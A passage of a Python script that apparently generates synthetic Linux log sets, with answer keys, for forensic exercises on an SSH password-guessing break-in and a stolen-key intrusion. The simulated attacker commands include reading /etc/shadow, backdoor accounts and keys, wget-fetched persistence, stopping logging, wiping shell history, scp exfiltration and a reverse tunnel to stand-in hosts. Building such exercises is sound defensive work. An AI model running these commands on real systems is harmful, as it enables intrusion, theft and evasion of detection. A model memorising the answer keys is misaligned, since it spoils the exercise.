    host.login(slip + seconds(6), "kenji", 1000, ADMIN, minutes(31), method="password", tty=0, joined=(pid, port))
    made = host.at("2026-05-20 14:05:00")
    host.login(made - minutes(3), "kenji", 1000, ADMIN, minutes(22), method="password", tty=1, commands=[(180, "/usr/sbin/adduser mio"), (260, "/usr/sbin/usermod -aG lager mio")])
    for offset, program, text in ((1, "groupadd", "group added to /etc/group: name=mio, GID=1002"), (1, "groupadd", "group added to /etc/gshadow: name=mio"), (1, "groupadd", "new group: name=mio, GID=1002"),
                                  (2, "useradd", "new user: name=mio, UID=1002, GID=1002, home=/home/mio, shell=/bin/bash, from=/dev/pts/2"),
                                  (19, "passwd", "pam_unix(passwd:chauthtok): password changed for mio"), (26, "chfn", "changed user 'mio' information"),
                                  (80, "usermod", "add 'mio' to group 'lager'"), (80, "usermod", "add 'mio' to shadow group 'lager'")):
        host.log("auth", made + seconds(offset), program, text, 30410 + offset)
    for number, text in enumerate(("2026-05-20 14:31:12", "2026-05-21 09:04:40", "2026-05-25 09:11:02", "2026-05-28 13:40:19")):
        host.login(host.at(text), "mio", 1002, COLLEAGUE, minutes(25 + 9 * number), method="password", tty=2)

    # The password of the copier's account fits, and the account may use sudo.
    entry = host.at("2026-05-21 04:41:17")
    first = host.login(entry, "scan", 1001, LUCKY, minutes(67), method="password", tty=1, trace=False, closing=False, commands=[
        (48, "/usr/bin/id"),
        (75, "/usr/bin/cat /etc/shadow"),
        (190, "/usr/sbin/useradd -m -s /bin/bash -G sudo svc-update"),
        (221, "/usr/bin/passwd svc-update"),
        (262, "/usr/bin/mkdir -p /home/svc-update/.ssh /root/.ssh"),
        (301, "/usr/bin/tee -a /home/svc-update/.ssh/authorized_keys"),
        (322, "/usr/bin/tee -a /root/.ssh/authorized_keys"),
        (431, "/usr/bin/wget -q http://%s/d -O /usr/local/sbin/dbus-sync" % STORE),
        (444, "/usr/bin/chmod 755 /usr/local/sbin/dbus-sync"),
        (515, "/usr/bin/tee /etc/cron.d/dbus-sync"),
        (602, "/usr/bin/tee /etc/systemd/system/dbus-sync.service"),
        (640, "/usr/bin/systemctl enable --now dbus-sync.service"),
        (1034, "/usr/bin/systemctl stop syslog.socket rsyslog.service"),
    ])
    for offset, program, text in ((190, "useradd", "new group: name=svc-update, GID=1003"), (190, "useradd", "new user: name=svc-update, UID=1003, GID=1003, home=/home/svc-update, shell=/bin/bash, from=/dev/pts/1"),
                                  (190, "useradd", "add 'svc-update' to group 'sudo'"), (190, "useradd", "add 'svc-update' to shadow group 'sudo'"), (230, "passwd", "pam_unix(passwd:chauthtok): password changed for svc-update")):
        host.log("auth", entry + seconds(offset), program, text, 23871 if program == "useradd" else 23899)
    host.log("syslog", host.at("2026-05-21 04:50:01"), "cron", "(*system*dbus-sync) RELOAD (/etc/cron.d/dbus-sync)", 588)
    host.log("syslog", entry + seconds(640), "systemd", "Reloading.", 1)
    host.log("syslog", entry + seconds(641), "systemd", "Started dbus-sync.service - D-Bus Message Synchronisation.", 1)
    host.log("syslog", deaf[0], "systemd", "Stopping rsyslog.service - System Logging Service...", 1)
    host.log("syslog", deaf[0], "rsyslogd", '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="590" x-info="https://www.rsyslog.com"] exiting on signal 15.')
    host.log("syslog", deaf[1], "rsyslogd", '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="24410" x-info="https://www.rsyslog.com"] start')
    host.log("syslog", deaf[1], "systemd", "Started rsyslog.service - System Logging Service.", 1)
    host.sudo(host.at("2026-05-21 05:41:20"), "scan", 1001, 1, "/usr/bin/rm -f /home/scan/.bash_history")
    host.sudo(host.at("2026-05-21 05:41:52"), "scan", 1001, 1, "/usr/bin/ln -sf /dev/null /root/.bash_history")

    # Back through the account they made; the night's lines in auth.log and the login records are taken out, those in syslog are forgotten.
    second = host.login(host.at("2026-05-22 01:12:30"), "svc-update", 1003, RETURNER, minutes(58), key="intruder", tty=1, trace=False)
    host.login(host.at("2026-05-27 02:33:09"), "svc-update", 1003, RETURNER, minutes(14), key="intruder", tty=1, trace=False,
               commands=[(40, "/usr/bin/systemctl restart dbus-sync.service"), (300, "/usr/bin/tail -n 50 /var/log/auth.log")])
    time = host.at("2026-05-21 05:00:01")
    while time < end:
        host.cron(time, "root", 0, "/usr/local/sbin/dbus-sync --once >/dev/null 2>&1")
        time += minutes(120)

    for name in ("auth", "syslog", "kern"):
        host.logs[name] = [l for l in host.logs[name] if not deaf[0] < l[0] < deaf[1]]
    host.logs["auth"] = [l for l in host.logs["auth"] if not hole[0] <= l[0] < hole[1]]
    root = os.path.join(HERE, "ssh-guessing")
    host.begin(root, 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nID=debian\nVERSION_ID="12"\n',
               "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nkenji:x:1000:1000:Kenji:/home/kenji:/bin/bash\nscan:x:1001:1001:Copier:/srv/scan:/bin/bash\n"
               "mio:x:1002:1002:Mio,,,:/home/mio:/bin/bash\nsvc-update:x:1003:1003::/home/svc-update:/bin/bash\n")
    host.text(root, "etc/timezone", "Asia/Tokyo\n")
    weeks = [host.at(text + " 00:00:02") for text in ("2026-05-17", "2026-05-24", "2026-05-31")]
    for name in ("auth", "syslog", "kern"):
        host.family(root, name if name == "syslog" else name + ".log", name, weeks, packed_at=1)
    host.family(root, "dpkg.log", "dpkg", [host.at("2026-06-01 00:00:02")])
    host.family(root, "apt/history.log", "apt", [host.at("2026-06-01 00:00:02")], packed_at=1)
    host.records(root, "wtmp", host.wtmp, [host.at("2026-06-01 00:00:02")])
    host.records(root, "btmp", host.btmp, [host.at("2026-06-01 00:00:02")])
    host.write_lastlog(root)
    facts("ssh-guessing",
          zone="Asia/Tokyo", collected=zulu(end), verdict=["compromised"],
          firstEntry={"at": zulu(entry), "withinSeconds": 2, "address": LUCKY, "user": "scan", "how": "the password of the copier's account, guessed by some sixty addresses over ten days; this one had tried three times before"},
          attackers=[LUCKY, RETURNER], scouts=[],
          accounts={"used": ["scan", "root"], "made": ["svc-update"]},
          did=["2026-05-21 04:42 /etc/shadow read", "2026-05-21 04:44 the account svc-update made, member of sudo", "2026-05-21 04:46 keys put into authorized_keys of svc-update and root",
               "2026-05-21 04:48 a program fetched from %s" % STORE, "2026-05-22 01:12 and 2026-05-27 02:33 came back as svc-update from %s with a key" % RETURNER],
          left=["account svc-update", "/root/.ssh/authorized_keys", "/home/svc-update/.ssh/authorized_keys", "/usr/local/sbin/dbus-sync", "/etc/cron.d/dbus-sync", "/etc/systemd/system/dbus-sync.service"],
          hidden=["rsyslog stopped from 2026-05-21 04:58 to 05:36", "auth.log has no line from 2026-05-22 00:00 to 07:00; syslog still tells of session %d of svc-update" % second,
                  "six login records in wtmp overwritten with zeros; lastlog still names %s" % RETURNER, "the shells' histories of scan (session %d) and root removed" % first],
          redHerrings=[{"what": "the administrator mistyped his password seven times from his usual address on 2026-05-19 and then got in", "addresses": [ADMIN], "users": ["kenji"]},
                       {"what": "the account of a new colleague, made by the administrator on 2026-05-20, and her log-ins", "addresses": [COLLEAGUE], "users": ["mio"]},
                       {"what": "the copier's own log-ins with the same account", "addresses": [COPIER], "users": []}])

# ---- stolen-key: no guessing at all; the key fits, and the audit log holds the pieces together

DESK, PHONE, RUNNER, NEIGHBOUR, THIEF, RELAY = "192.0.2.70", "198.51.100.197", "192.0.2.80", "192.0.2.85", "203.0.113.66", "203.0.113.90"
CONTEXT = "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023"
DAEMON = "system_u:system_r:sshd_t:s0-s0:c0.c1023"
IDS = {"root": 0, "deploy": 990, "nora": 1001, "dbadmin": 1002}


class RedHat(Host):
    """A RHEL 9: secure, messages and cron with short stamps, packed parts with a date, the audit log beside them. The audit rules leave out
    the deployment's account (exclude, never), so that its hundred log-ins a day do not fill the disk."""

    def audit(self, time, *records):
        """One event: (type, body, names) each, to which the serial number and the time are put when it is written."""
        self.order += 1
        self.logs.setdefault("audit", []).append((time, self.order, records))

    def audit_lines(self, since, until):
        events = sorted(self.logs["audit"], key=lambda e: (e[0], e[1]))
        made = []
        for serial, (time, order, records) in enumerate(events, 41873):
            if (since is None or time >= since) and (until is None or time < until):
                milli = min(999, (order * 7) % 200 + 150 * sum(1 for e in events if e[0] == time and e[1] < order))
                made += ["type=%s msg=audit(%d.%03d:%d): %s%s" % (kind, time.timestamp(), milli, serial, body, "\x1d" + names if names else "") for kind, body, names in records]
        return "".join(line + "\n" for line in made).encode()

    def quoted(self, text):
        return '"%s"' % text if all(33 <= ord(c) < 127 and c != '"' for c in text) else text.encode().hex().upper()

    def ran(self, time, who, user, ses, tty, arguments, exe=None, cwd=None, key="exec", files=()):
        """A program run by `user` in the log-in of `who`: auid stays, whatever su and sudo make of the rest. files: (path, nametype)."""
        uid, auid, pid = IDS[user], IDS[who], self.pid()
        exe = exe or "/usr/bin/" + arguments[0].split("/")[-1]
        names = 'ARCH=x86_64 SYSCALL=execve AUID="%s" UID="%s" GID="%s" EUID="%s" SUID="%s" FSUID="%s" EGID="%s" SGID="%s" FSGID="%s"' % ((who,) + (user,) * 8)
        plain = ("PROCTITLE", "proctitle=" + ("\0".join(arguments).encode().hex().upper() if len(arguments) > 1 else self.quoted(arguments[0])), "")
        self.audit(time,
                   ("SYSCALL", "arch=c000003e syscall=59 success=yes exit=0 a0=5581%08x a1=5581%08x a2=5581%08x a3=8 items=2 ppid=%d pid=%d auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d "
                    "tty=%s ses=%d comm=%s exe=\"%s\" subj=%s key=\"%s\"" % ((self.random.randrange(2**32), self.random.randrange(2**32), self.random.randrange(2**32), self.pid(), pid, auid) + (uid,) * 8
                                                                             + (tty, ses, self.quoted(exe.split("/")[-1][:15]), exe, CONTEXT, key)), names),
                   ("EXECVE", "argc=%d %s" % (len(arguments), " ".join("a%d=%s" % (n, self.quoted(a)) for n, a in enumerate(arguments))), ""),
                   ("CWD", "cwd=%s" % self.quoted(cwd or ("/root" if user == "root" else "/home/" + user)), ""),
                   ("PATH", 'item=0 name="%s" inode=%d dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:bin_t:s0 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'
                    % (exe, self.random.randrange(10**6, 10**7)), 'OUID="root" OGID="root"'), plain)
        for path, kind in files:
            self.audit(time,
                       ("SYSCALL", "arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd%08x a2=%s a3=1b6 items=2 ppid=%d pid=%d auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d "
                        "tty=%s ses=%d comm=%s exe=\"%s\" subj=%s key=\"files\"" % ((self.random.randrange(2**32), "0" if kind == "NORMAL" and "shadow" in path else "441", self.pid(), pid, auid) + (uid,) * 8
                                                                                  + (tty, ses, self.quoted(exe.split("/")[-1][:15]), exe, CONTEXT)), names.replace("execve", "openat")),
                       ("CWD", "cwd=%s" % self.quoted(cwd or "/root"), ""),
                       ("PATH", 'item=0 name="%s" inode=%d dev=fd:00 mode=040755 ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:etc_t:s0 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'
                        % (path.rsplit("/", 1)[0] + "/", self.random.randrange(10**6, 10**7)), 'OUID="root" OGID="root"'),
                       ("PATH", 'item=1 name="%s" inode=%d dev=fd:00 mode=0100600 ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:etc_t:s0 nametype=%s cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'
                        % (path, self.random.randrange(10**6, 10**7), kind), 'OUID="root" OGID="root"'), plain)

    def said(self, time, kind, pid, auid, ses, message, uid=0, context=DAEMON, names=""):
        self.audit(time, (kind, "pid=%d uid=%d auid=%d ses=%d subj=%s msg='%s'" % (pid, uid, auid, ses, context, message), names))

    def person(self, time, user, address, last, tty=0, key=None, audited=True):
        """A log-in by key at a terminal; its session number ties secure, messages and the audit log together."""
        pid, port, uid, ses, end = self.pid(), self.random.randrange(32768, 61000), IDS[user], self.session_at(time), time + last
        self.log("secure", time, "sshd", "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s" % (user, address, port, self.key_of(key or user)), pid)
        self.log("secure", time, "systemd", "pam_unix(systemd-user:session): session opened for user %s(uid=%d) by %s(uid=0)" % (user, uid, user), pid + 4)
        self.log("secure", time, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%d) by %s(uid=0)" % (user, uid, user), pid)
        self.log("secure", end, "sshd", "Received disconnect from %s port %d:11: disconnected by user" % (address, port), pid + 9)
        self.log("secure", end, "sshd", "Disconnected from user %s %s port %d" % (user, address, port), pid + 9)
        self.log("secure", end, "sshd", "pam_unix(sshd:session): session closed for user %s" % user, pid)
        self.log("messages", time, "systemd-logind", "New session %d of user %s." % (ses, user), 821)
        self.log("messages", time, "systemd", "Started Session %d of User %s." % (ses, user), 1)
        self.log("messages", end, "systemd", "session-%d.scope: Deactivated successfully." % ses, 1)
        self.log("messages", end, "systemd-logind", "Session %d logged out. Waiting for processes to exit." % ses, 821)
        self.log("messages", end, "systemd-logind", "Removed session %d." % ses, 821)
        line = "pts/%d" % tty
        self.wtmp += [(time, self.record(7, time, user, line, "ts/%d" % tty, address, address, pid)), (end, self.record(8, end, "", line, "ts/%d" % tty, "", "", pid))]
        if audited:
            acct, terminal = 'UID="root" AUID="%s"' % user, "hostname=%s addr=%s terminal=ssh res=success" % (address, address)
            self.said(time, "USER_AUTH", pid, 4294967295, 4294967295, 'op=pubkey_auth grantors=auth-key acct="%s" exe="/usr/sbin/sshd" hostname=? addr=%s terminal=ssh res=success' % (user, address), names='UID="root" AUID="unset"')
            self.audit(time, ("LOGIN", "pid=%d uid=0 subj=%s old-auid=4294967295 auid=%d tty=(none) old-ses=4294967295 ses=%d res=1" % (pid, DAEMON, uid, ses), 'UID="root" OLD-AUID="unset" AUID="%s"' % user))
            self.said(time, "USER_START", pid, uid, ses, 'op=PAM:session_open grantors=pam_selinux,pam_loginuid,pam_keyinit,pam_systemd,pam_unix,pam_lastlog acct="%s" exe="/usr/sbin/sshd" %s' % (user, terminal), names=acct)
            self.said(time, "USER_LOGIN", pid, uid, ses, 'op=login id=%d exe="/usr/sbin/sshd" hostname=? addr=%s terminal=/dev/%s res=success' % (uid, address, line), names=acct + ' ID="%s"' % user)
            self.said(end, "USER_END", pid, uid, ses, 'op=PAM:session_close grantors=pam_selinux,pam_loginuid,pam_keyinit,pam_systemd,pam_unix,pam_lastlog acct="%s" exe="/usr/sbin/sshd" %s' % (user, terminal), names=acct)
        return ses

    def as_root(self, time, who, user, ses, tty, command, files=(), cwd=None):
        """sudo, in secure and in the audit log, and what it ran."""
        arguments, pid, uid, home = command.split(), self.pid(), IDS[user], cwd or "/home/" + user
        self.log("secure", time, "sudo", "%8s : TTY=%s ; PWD=%s ; USER=root ; COMMAND=%s" % (user, tty.replace("pts", "pts/"), home, command), pid)
        self.log("secure", time, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)" % (who, uid), pid)
        self.log("secure", time + seconds(1), "sudo", "pam_unix(sudo:session): session closed for user root", pid)
        self.ran(time, who, user, ses, tty, ["sudo"] + [arguments[0].split("/")[-1]] + arguments[1:], cwd=home)
        self.said(time, "USER_CMD", pid, IDS[who], ses, "cwd=%s cmd=%s exe=\"/usr/bin/sudo\" terminal=%s res=success" % (self.quoted(home), self.quoted(command), tty.replace("pts", "pts/")), uid, CONTEXT,
                  'UID="%s" AUID="%s"' % (user, who))
        self.ran(time, who, "root", ses, tty, [arguments[0].split("/")[-1]] + arguments[1:], exe=arguments[0], cwd=home, key="root", files=files)


def stolen_key():
    host = RedHat(20260311, "build2", "America/New_York", iso=False)
    start, end = host.at("2026-03-02 06:02:40"), host.at("2026-03-16 09:30:00")
    host.boot_up(start, "5.14.0-570.12.1.el9_6.x86_64")
    host.logs["messages"], host.logs["secure"] = host.logs.pop("kern"), host.logs.pop("auth")
    time = start.replace(minute=1, second=1)
    while time < end:
        if time > start:
            pid = host.pid()
            host.log("cron", time, "CROND", "(root) CMD (run-parts /etc/cron.hourly)", pid)
            host.log("cron", time, "CROND", "(root) CMDEND (run-parts /etc/cron.hourly)", pid - 1)
        if time > start and time.hour % 3 == 0:
            host.log("messages", time + minutes(21), "systemd", "Starting dnf makecache...", 1)
            host.log("messages", time + minutes(21), "dnf", "Metadata cache refreshed recently.", pid + 60)
            host.log("messages", time + minutes(21), "systemd", "dnf-makecache.service: Deactivated successfully.", 1)
            host.log("messages", time + minutes(21), "systemd", "Finished dnf makecache.", 1)
            for kind in ("SERVICE_START", "SERVICE_STOP"):
                host.said(time + minutes(21), kind, 1, 4294967295, 4294967295, 'unit=dnf-makecache comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success',
                          context="system_u:system_r:init_t:s0", names='UID="root" AUID="unset"')
        time += minutes(60)

    # The deployment's runner: a hundred log-ins on a working day, each with the same key and without a terminal.
    for day, weekday in host.days(start, end):
        for _ in range(104 if weekday < 5 else 6):
            time = host.on(day, host.random.randrange(7, 21), host.random.randrange(60), host.random.randrange(60))
            if start + minutes(5) < time < end:
                pid, port = host.pid(), host.random.randrange(32768, 61000)
                host.log("secure", time, "sshd", "Accepted publickey for deploy from %s port %d ssh2: RSA SHA256:%s" % (RUNNER, port, host.key_of("runner")), pid)
                host.log("secure", time, "sshd", "pam_unix(sshd:session): session opened for user deploy(uid=990) by deploy(uid=0)", pid)
                host.log("secure", time + seconds(host.random.randrange(2, 25)), "sshd", "pam_unix(sshd:session): session closed for user deploy", pid)
        if weekday == 2 and host.on(day, 5, 12) < end:
            stamp = host.on(day, 5, 12, 9)
            for verb, package in (("Upgrade", "openssl-libs-1:3.2.2-%d.el9_6.x86_64" % day.day), ("Upgraded", "openssl-libs-1:3.2.2-%d.el9_6.x86_64" % (day.day - 1))):
                host.put("dnf", stamp, "%s SUBDEBUG %s: %s" % (stamp.astimezone(host.zone).strftime("%Y-%m-%dT%H:%M:%S%z"), verb, package))

    # Nora's days, and the database's administrator, who comes over from the second server now and then.
    work = [["git", "pull", "--ff-only"], ["make", "-j4"], ["ls", "-l"], ["vim", "Makefile"], ["git", "status"], ["podman", "ps"], ["less", "build.log"], ["journalctl", "--user", "-n", "50"]]
    for day, weekday in host.days(start, end):
        if weekday < 5:
            for hour in (9, 14):
                time = host.on(day, hour, host.random.randrange(50), host.random.randrange(60))
                if start < time < end - minutes(60):
                    ses = host.person(time, "nora", DESK, minutes(25 + host.random.randrange(60)))
                    for number, arguments in enumerate(host.random.sample(work, 4)):
                        host.ran(time + minutes(2 + 5 * number), "nora", "nora", ses, "pts0", arguments, cwd="/home/nora/shop")
        if weekday in (0, 3):
            time = host.on(day, 11, host.random.randrange(40))
            if start < time < end:
                ses = host.person(time, "dbadmin", NEIGHBOUR, minutes(15), tty=1)
                host.as_root(time + minutes(3), "dbadmin", "dbadmin", ses, "pts1", "/usr/bin/systemctl status postgresql")
    for text, last in (("2026-03-10 13:22:07", 24), ("2026-03-12 12:41:50", 17)):
        ses = host.person(host.at(text), "nora", PHONE, minutes(last))
        for number, arguments in enumerate((["git", "pull", "--ff-only"], ["make", "-j4"], ["less", "build.log"])):
            host.ran(host.at(text) + minutes(2 + 4 * number), "nora", "nora", ses, "pts0", arguments, cwd="/home/nora/shop")

    # At night, with the same key, from an address nobody knows.
    entry = host.at("2026-03-11 03:14:22")
    ses = host.person(entry, "nora", THIEF, minutes(48))
    for offset, arguments in ((21, ["id"]), (30, ["w"]), (44, ["hostname", "-f"]), (61, ["ls", "-la", "/home"]), (88, ["cat", "/home/nora/.bash_history"]), (140, ["cat", "/home/nora/.pgpass"]),
                              (171, ["grep", "-rniI", "password", "/home/nora/shop"]), (203, ["cat", "/home/nora/.ssh/known_hosts"])):
        host.ran(entry + seconds(offset), "nora", "nora", ses, "pts0", arguments)
    for offset, works in ((300, False), (341, True)):
        pid, when = host.pid(), entry + seconds(offset)
        host.ran(when, "nora", "nora", ses, "pts0", ["su", "-", "dbadmin"])
        host.said(when + seconds(5), "USER_AUTH", pid, IDS["nora"], ses, 'op=PAM:authentication grantors=%s acct="dbadmin" exe="/usr/bin/su" hostname=build2.example.com addr=? terminal=/dev/pts/0 res=%s'
                  % ("pam_unix" if works else "?", "success" if works else "failed"), IDS["nora"], CONTEXT, 'UID="nora" AUID="nora"')
        if works:
            host.log("secure", when + seconds(5), "su", "(to dbadmin) nora on pts/0", pid)
            host.log("secure", when + seconds(5), "su", "pam_unix(su-l:session): session opened for user dbadmin(uid=1002) by nora(uid=1001)", pid)
            host.said(when + seconds(5), "USER_START", pid, IDS["nora"], ses, 'op=PAM:session_open grantors=pam_keyinit,pam_limits,pam_systemd,pam_unix,pam_umask,pam_xauth acct="dbadmin" exe="/usr/bin/su" hostname=build2.example.com addr=? terminal=/dev/pts/0 res=success',
                      IDS["nora"], CONTEXT, 'UID="nora" AUID="nora"')
            host.log("secure", entry + minutes(47), "su", "pam_unix(su-l:session): session closed for user dbadmin", pid)
        else:
            host.log("secure", when + seconds(5), "su", "pam_unix(su-l:auth): authentication failure; logname=nora uid=1001 euid=0 tty=/dev/pts/0 ruser=nora rhost=  user=dbadmin", pid)
            host.log("secure", when + seconds(7), "su", "FAILED SU (to dbadmin) nora on pts/0", pid)
    host.ran(entry + seconds(380), "nora", "dbadmin", ses, "pts0", ["mkdir", "-p", "/var/tmp/.d"])
    host.as_root(entry + seconds(420), "nora", "dbadmin", ses, "pts0", "/usr/bin/cp /etc/shadow /var/tmp/.d/s", files=[("/etc/shadow", "NORMAL")])
    host.as_root(entry + seconds(505), "nora", "dbadmin", ses, "pts0", "/usr/bin/tar czf /var/tmp/.d/d.tgz /srv/deploy/app/config /home/nora/shop /var/tmp/.d/s")
    host.ran(entry + seconds(560), "nora", "dbadmin", ses, "pts0", ["scp", "-q", "-o", "StrictHostKeyChecking=no", "/var/tmp/.d/d.tgz", "relay@%s:in/" % RELAY])
    host.ran(entry + seconds(700), "nora", "dbadmin", ses, "pts0", ["ssh", "-f", "-N", "-R", "2222:127.0.0.1:22", "relay@%s" % RELAY])
    host.as_root(entry + seconds(910), "nora", "dbadmin", ses, "pts0", "/usr/bin/tee -a /srv/deploy/.ssh/authorized_keys", files=[("/srv/deploy/.ssh/authorized_keys", "NORMAL")])
    host.as_root(entry + seconds(1190), "nora", "dbadmin", ses, "pts0", "/usr/bin/rm -rf /var/tmp/.d")

    # Two nights later they come from the second server, whose address everybody knows here, as the deployment and with a key of their own.
    second = host.at("2026-03-13 02:41:33")
    host.person(second, "deploy", NEIGHBOUR, minutes(18), tty=0, key="thief", audited=False)
    ses = host.person(host.at("2026-03-15 03:05:48"), "nora", THIEF, minutes(12))
    for offset, arguments in ((20, ["w"]), (41, ["ls", "-la", "/srv/deploy/app/config"]), (90, ["ssh", "-f", "-N", "-R", "2222:127.0.0.1:22", "relay@%s" % RELAY])):
        host.ran(host.at("2026-03-15 03:05:48") + seconds(offset), "nora", "nora", ses, "pts0", arguments)

    root = os.path.join(HERE, "stolen-key")
    host.begin(root, 'NAME="Red Hat Enterprise Linux"\nVERSION="9.6 (Plow)"\nID="rhel"\nID_LIKE="fedora"\nVERSION_ID="9.6"\nPRETTY_NAME="Red Hat Enterprise Linux 9.6 (Plow)"\n',
               "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\npostgres:x:26:26:PostgreSQL Server:/var/lib/pgsql:/bin/bash\ndeploy:x:990:985:Deployment:/srv/deploy:/bin/bash\n"
               "nora:x:1001:1001:Nora:/home/nora:/bin/bash\ndbadmin:x:1002:1002:Database administration:/home/dbadmin:/bin/bash\n")
    os.symlink("../usr/share/zoneinfo/America/New_York", os.path.join(root, "etc/localtime"))
    weeks = [host.at("2026-03-08 00:00:04"), host.at("2026-03-15 00:00:04")]
    for name in ("secure", "messages", "cron"):
        host.family(root, name, name, weeks, dated=True, packed_at=1)
    host.family(root, "dnf.rpm.log", "dnf")
    host.parts(root, "audit/audit.log", host.audit_lines, [host.at("2026-03-08 00:10:00"), host.at("2026-03-15 00:10:00")], False, None, 1)
    host.records(root, "wtmp", host.wtmp)
    host.bytes(root, "var/log/btmp", b"")
    facts("stolen-key",
          zone="America/New_York", collected=zulu(end), verdict=["compromised"],
          firstEntry={"at": zulu(entry), "withinSeconds": 2, "address": THIEF, "user": "nora", "how": "the developer's own key, stolen elsewhere: no guessing, her usual fingerprint, an address nobody knows, at night"},
          attackers=[THIEF], scouts=[],
          accounts={"used": ["nora", "dbadmin", "root", "deploy"], "made": []},
          did=["2026-03-11 03:20 su to dbadmin, at the second try", "2026-03-11 03:21 /etc/shadow copied to /var/tmp/.d", "2026-03-11 03:23 an archive sent to %s with scp" % RELAY,
               "2026-03-11 03:26 a tunnel back to this server opened from %s" % RELAY, "2026-03-11 03:29 a key put into deploy's authorized_keys",
               "2026-03-13 02:41 came back as deploy with that key from %s, the second server, which must count as broken into as well" % NEIGHBOUR, "2026-03-15 03:05 came back as nora from %s" % THIEF],
          left=["/srv/deploy/.ssh/authorized_keys", "a reverse tunnel to %s" % RELAY], hidden=["/var/tmp/.d removed"],
          redHerrings=[{"what": "Nora herself from a mobile network that was never seen before, in the daytime of 2026-03-10 and 2026-03-12", "addresses": [PHONE], "users": []},
                       {"what": "the deployment's runner: about a hundred log-ins by key on each working day", "addresses": [RUNNER], "users": []},
                       {"what": "Nora at her desk", "addresses": [DESK], "users": []}])


if __name__ == "__main__":
    web_shell()
    ssh_guessing()
    stolen_key()
